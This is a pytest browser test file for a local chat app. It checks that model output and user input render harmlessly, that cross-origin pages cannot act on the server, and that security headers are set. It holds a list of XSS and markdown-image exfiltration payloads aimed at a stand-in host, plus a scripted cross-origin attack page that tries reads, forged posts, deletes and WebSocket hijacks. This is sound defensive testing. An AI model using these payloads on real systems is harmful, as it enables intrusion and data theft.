"""T2 to T5 and T11 to T15 in a real browser: a page of somebody else's, and a model that says the worst. (F41)"""

import http.server
import threading

import pytest

from harness.clients import Native
from pages import ask, open_page

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

EVIL = "http://127.0.0.1:9"  # nobody is there: a request would be seen all the same

PAYLOADS = [
    "<script>window.owned = 1; alert(1)</script>",
    "<img src=x onerror=\"window.owned = 2; alert(2)\">",
    f"<img src={EVIL}/img.png>",
    f"![stolen]({EVIL}/md.png?q=secret)",
    f"![ref][r]\n\n[r]: {EVIL}/ref.png",
    "<svg onload=\"window.owned = 3\"><script>alert(3)</script></svg>",
    f"<svg><image href=\"{EVIL}/svg.png\"/></svg>",
    "[click](javascript:window.owned=4)",
    "[click](JaVaScRiPt:alert(5))",
    "[click](java\tscript:alert(5))",
    "[click](&#106;avascript:alert(5))",
    "[click](data:text/html,<script>alert(6)</script>)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(7)>",
    "<a href=\"javascript:alert(8)\" onclick=\"alert(8)\">x</a>",
    f"<iframe src=\"{EVIL}/frame\" srcdoc=\"<script>alert(9)</script>\"></iframe>",
    f"<form action=\"{EVIL}/form\"><input name=q value=secret autofocus onfocus=alert(10)><button>go</button></form>",
    f"<link rel=stylesheet href={EVIL}/style.css><link rel=prefetch href={EVIL}/pre><link rel=preload as=image href={EVIL}/load>",
    f"<style>@import '{EVIL}/import.css'; body {{ background: url({EVIL}/css.png) }} @font-face {{ font-family: x; src: url({EVIL}/font) }}</style>",
    f"<div style=\"background:url({EVIL}/inline.png)\">x</div>",
    f"<object data={EVIL}/object></object><embed src={EVIL}/embed><video src={EVIL}/video autoplay></video><audio src={EVIL}/audio></audio>",
    f"<meta http-equiv=refresh content=\"0;url={EVIL}/meta\"><base href={EVIL}/>",
    "<details open ontoggle=alert(11)>x</details><marquee onstart=alert(12)>x</marquee>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(13)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(14)>\">",
    "</div></main></body></html><script>alert(15)</script>",
    "```html\n<script>alert(16)</script>\n```",
    "`<img src=x onerror=alert(17)>`",
    "```\"><script>alert(18)</script>\nx\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(19)> |",
    "$\\href{javascript:alert(20)}{x}$ \\(\\url{javascript:alert(20)}\\)",
    "\n\ndata: [DONE]\n\nevent: error\ndata: {}\n\n",
    "\x1b[2J\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "{{constructor.constructor('alert(21)')()}} ${alert(22)} <%= alert(23) %>",
    "\u202egnp.exe \u200b\u2066hidden\u2069 \ufeff",
]

# What no answer may have made of itself; the page's own elements are outside of .prose or are these.
FORBIDDEN = "script, iframe, frame, object, embed, form, input:not([type=checkbox]), link, style, meta, base, video, audio, svg image, noscript, math"


class Watched:
    """What the browser did: dialogs, requests to anywhere but the server, pages that opened."""

    def __init__(self, page, server):
        self.dialogs, self.elsewhere, self.popups = [], [], []
        page.on("dialog", self.on_dialog)
        page.on("popup", lambda popup: self.popups.append(popup.url))
        page.on("request", lambda request: self.on_request(request, server))

    def on_dialog(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def on_request(self, request, server):
        if not request.url.startswith((server.url + "/", "data:", "blob:")):
            self.elsewhere.append(request.url)


def check_harmless(page, watched):
    assert watched.dialogs == [] and watched.popups == []
    assert watched.elsewhere == []
    assert page.evaluate("window.owned") is None
    forbidden = """selector => [...document.querySelectorAll('.prose')].flatMap(p => [...p.querySelectorAll(selector)])
        .filter(e => !(e.closest('.maths > .katex, .maths > .katex-display') && e.matches('math, svg'))).map(e => e.outerHTML)"""
    assert page.evaluate(forbidden, FORBIDDEN) == []
    # Formulas are drawn by KaTeX alone, of shapes and signs that lead nowhere.
    shapes = "() => [...document.querySelectorAll('.maths [href], .maths [src], .maths [xlink\\\\:href], .maths foreignObject, .maths maction')].map(e => e.outerHTML)"
    assert page.evaluate(shapes) == []
    handlers = "() => [...document.querySelectorAll('.prose *')].flatMap(e => [...e.attributes].filter(a => /^on/i.test(a.name)).map(a => a.name))"
    assert page.evaluate(handlers) == []
    images = "() => [...document.querySelectorAll('.prose img, .prose [src], .prose [srcset]')].map(e => e.src).filter(s => s && !/^(data|blob):/.test(s))"
    assert page.evaluate(images) == []
    links = page.evaluate("() => [...document.querySelectorAll('.prose a[href]')].map(a => [a.getAttribute('href'), a.rel, a.target])")
    for href, rel, target in links:
        # One that is no address at all (a terminal's escape in it) leads nowhere, and is not what this is about.
        assert href.startswith(("http://", "https://", "mailto:")), links
        assert target != "_blank" or ("noopener" in rel or "noreferrer" in rel), links


def test_whatever_a_model_says_is_only_shown(serve, script, new_page):
    """T11, T12, T13, F41: while it comes, when it is there, and when the page is opened again. The same as a person's words, and as
    the title of the conversation."""
    pieces = [piece for payload in PAYLOADS for piece in (payload[: len(payload) // 2], payload[len(payload) // 2 :], "\n\n")]
    server = serve(script(tokens=[piece for piece in pieces if piece]))
    # The policy's own refusals would be complaints: that nothing had to be refused is looked at below.
    page = new_page()
    watched = Watched(page, server)
    open_page(page, server)
    ask(page, "<script>alert(0)</script> <img src=x onerror=alert(0)>")
    page.locator("[data-testid=message-assistant][data-end-reason]").wait_for(timeout=60_000)
    check_harmless(page, watched)
    page.reload()
    page.locator("[data-testid=message-assistant][data-end-reason]").wait_for(timeout=60_000)
    check_harmless(page, watched)
    assert page.title() and page.url.startswith(server.url + "/")


def test_the_policy_stops_what_the_page_would_let_through(serve, script, new_page):
    """T12, T13: the second wall. Scripts, images, styles, frames and connections to elsewhere do not happen even when asked for."""
    server = serve(script())
    page = new_page(expects_errors=True)
    watched = Watched(page, server)
    open_page(page, server)
    refused = page.evaluate(
        """async evil => {
        const refused = new Set();
        document.addEventListener('securitypolicyviolation', e => refused.add(e.effectiveDirective));
        const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
        add('img', {src: evil + '/a.png'});
        add('script', {src: evil + '/a.js'});
        add('script', {textContent: 'window.owned = 1'});
        add('link', {rel: 'stylesheet', href: evil + '/a.css'});
        add('iframe', {src: evil + '/frame'});
        add('object', {data: evil + '/object'});
        add('video', {src: evil + '/video'});
        const form = Object.assign(document.createElement('form'), {action: evil + '/form', method: 'post'});
        document.body.append(form);
        form.submit();
        await fetch(evil + '/fetch').catch(() => 0);
        try { new WebSocket(evil.replace('http', 'ws')); } catch {}
        try { new EventSource(evil); } catch {}
        navigator.sendBeacon(evil + '/beacon', 'x');
        const face = new FontFace('x', `url(${evil}/font)`);
        await face.load().catch(() => 0);
        const base = document.createElement('base');
        base.href = evil + '/';
        document.head.append(base);
        await new Promise(resolve => setTimeout(resolve, 500));
        return [...refused];
    }""", EVIL)
    assert {"img-src", "script-src-elem", "style-src-elem", "frame-src", "object-src", "media-src", "form-action", "connect-src",
            "font-src", "base-uri"} <= set(refused), refused
    assert watched.dialogs == [] and page.evaluate("window.owned") is None
    assert page.url.startswith(server.url + "/")


ATTACK = """<!doctype html><title>attack</title><body><script>
window.attack = async (target, id) => {
    const results = {};
    const ws = target.replace('http', 'ws');
    const json = {'content-type': 'application/json'};
    const say = JSON.stringify({message: 'owned', temperature: 2});
    const tryFetch = async (name, path, options) => {
        try {
            const answer = await fetch(target + path, options);
            results[name] = answer.type === 'opaque' ? 'opaque' : 'read ' + await answer.text();
        } catch { results[name] = 'refused'; }
    };
    await tryFetch('read', '/api/conversations', {});
    await tryFetch('read page', '/', {});
    await tryFetch('read with credentials', '/api/config', {credentials: 'include'});
    await tryFetch('send json', '/api/chat', {method: 'POST', headers: json, body: say});
    await tryFetch('send a custom header', '/api/chat', {headers: {'x-api-key': 'x'}});
    await tryFetch('send text', '/api/chat', {method: 'POST', body: say, mode: 'no-cors'});
    await tryFetch('send form', '/api/config', {method: 'POST', body: new URLSearchParams({temperature: '2'}), mode: 'no-cors'});
    await tryFetch('delete', '/api/conversations/' + id, {method: 'DELETE'});
    await tryFetch('unload', '/api/model/unload', {method: 'POST', mode: 'no-cors'});
    await tryFetch('openai', '/v1/chat/completions', {method: 'POST', body: '{"messages":[{"role":"user","content":"x"}]}', mode: 'no-cors'});
    results.beacon = navigator.sendBeacon(target + '/api/chat', new Blob([say], {type: 'text/plain'}));
    for (const path of ['/ws', '/ws/chat/stream', '/ws/conversation/watch/' + id]) {
        results[path.slice(0, 24)] = await new Promise(resolve => {
            const socket = new WebSocket(ws + path);
            socket.onopen = () => { socket.send(JSON.stringify({type: 'hello', protocol: 1, message: 'owned'})); resolve('open'); };
            socket.onerror = () => resolve('refused');
        });
    }
    results.events = await new Promise(resolve => {
        const source = new EventSource(target + '/api/chat/stream');
        source.onopen = () => resolve('open');
        source.onerror = () => { source.close(); resolve('refused'); };
    });
    for (const path of ['/api/conversations', '/api/config', '/health', '/v1/models']) {
        results['script ' + path] = await new Promise(resolve => {
            const script = Object.assign(document.createElement('script'), {src: target + path});
            script.onload = () => resolve('loaded');
            script.onerror = () => resolve('refused');
            document.body.append(script);
        });
    }
    const form = Object.assign(document.createElement('form'), {action: target + '/api/chat', method: 'post', enctype: 'text/plain', target: 'sink'});
    form.append(Object.assign(document.createElement('input'), {name: '{"message":"owned","x":"', value: '"}'}));
    const sink = Object.assign(document.createElement('iframe'), {name: 'sink'});
    document.body.append(sink, form);
    await new Promise(resolve => { sink.onload = resolve; form.submit(); });
    const frame = Object.assign(document.createElement('iframe'), {src: target + '/', name: 'framed'});
    await new Promise(resolve => { frame.onload = resolve; document.body.append(frame); });
    return results;
};
</script>"""


@pytest.fixture
def elsewhere():
    """A page on another port of this machine."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = ATTACK.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    service = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=service.serve_forever, daemon=True).start()
    yield service.server_address[1]
    service.shutdown()
    service.server_close()


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_page_on_another_port_can_do_nothing(serve, script, new_page, elsewhere, name):
    """T2, T3, T4, T5, T14, T15"""
    server = serve(script(), log="debug")
    with Native(server) as client:
        conversation = client.begin("Mine")["conversation"]
        client.until("end")
    config = server.get("/api/config").json()
    loaded = server.status()["loaded"]
    page = new_page(expects_errors=True)
    page.goto(f"http://{name}:{elsewhere}/")
    results = page.evaluate("([target, id]) => window.attack(target, id)", [f"http://{name}:{server.port}", conversation])
    beacon = results.pop("beacon")
    assert beacon is True, "the beacon was not even sent"
    assert set(results.values()) <= {"refused", "opaque"}, results
    assert len(results) >= 18
    assert page.frame("framed").url.startswith("chrome-error:"), page.frame("framed").url
    # Nothing has happened, and nothing was learnt.
    assert [row["name"] for row in server.get("/api/conversations").json()["conversations"]] == [conversation]
    assert len(server.conversation(conversation)["messages"]) == 2
    assert server.get("/api/config").json() == config and server.status()["loaded"] == loaded


def test_a_page_without_an_origin_can_do_nothing(serve, script, new_page):
    """T4, T5: Origin null, as of a file or a sandboxed frame."""
    server = serve(script())
    page = new_page(expects_errors=True)
    page.goto("data:text/html," + ATTACK.replace("#", "%23").replace("\n", " "))
    results = page.evaluate("([target, id]) => window.attack(target, id)", [server.url, "chat_1999-01-01-00-00-00-000.txt"])
    results.pop("beacon")
    assert set(results.values()) <= {"refused", "opaque"}, results
    assert server.get("/api/conversations").json() == {"conversations": []}


def test_the_headers_of_the_page(serve):
    """T13, T14, T15"""
    server = serve()
    for path in ("/", "/c/chat_1999-01-01-00-00-00-000.txt", "/index.html"):
        headers = server.get(path).headers
        policy = dict(part.strip().partition(" ")[::2] for part in headers["content-security-policy"].split(";"))
        assert policy["default-src"] == "'none'" and policy["script-src"] == policy["connect-src"] == "'self'"
        assert policy["frame-ancestors"] == policy["form-action"] == policy["base-uri"] == "'none'"
        assert "http" not in policy["img-src"] and "*" not in headers["content-security-policy"]
        assert headers["x-frame-options"] == "DENY" and headers["referrer-policy"] == "no-referrer"
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["cross-origin-resource-policy"] == headers["cross-origin-opener-policy"] == "same-origin"
